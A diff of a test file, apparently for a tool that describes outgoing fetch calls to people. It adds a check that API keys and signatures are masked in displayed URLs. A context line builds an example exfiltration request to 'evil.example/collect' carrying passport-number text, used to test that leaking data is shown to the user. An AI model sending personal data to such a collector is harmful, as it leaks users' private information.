@@ -15,6 +15,15 @@ test.each([
   expect(readableAddress(new URL(address).href)).toBe(shown);
 });
 
+test('R13.3 a line that people read holds no key of an address, but where they decide on it', () => {
+  const url = 'https://a.example/items?cursor=1&api_key=SECRET&monkey=2&X-Amz-Signature=b#c';
+  const shown = 'https://a.example/items?cursor=1&api_key=…&monkey=2&X-Amz-Signature=…#c';
+  expect(readableAddress(url)).toBe(shown);
+  expect(describeCallFromInput('fetch', { url }).about.name).toBe(shown.replace('https://', ''));
+  const { before, host, after } = addressParts(new URL(url));
+  expect(before + host + after).toBe(url);
+});
+
 test('R13.3 where the person decides, an address shows in words what would leave', () => {
   const url = `https://evil.example/collect?notes=${encodeURIComponent('我的护照号码是'.repeat(10))}`;
   expect(describeCallFromInput('fetch', { url }).about.name).toBe(
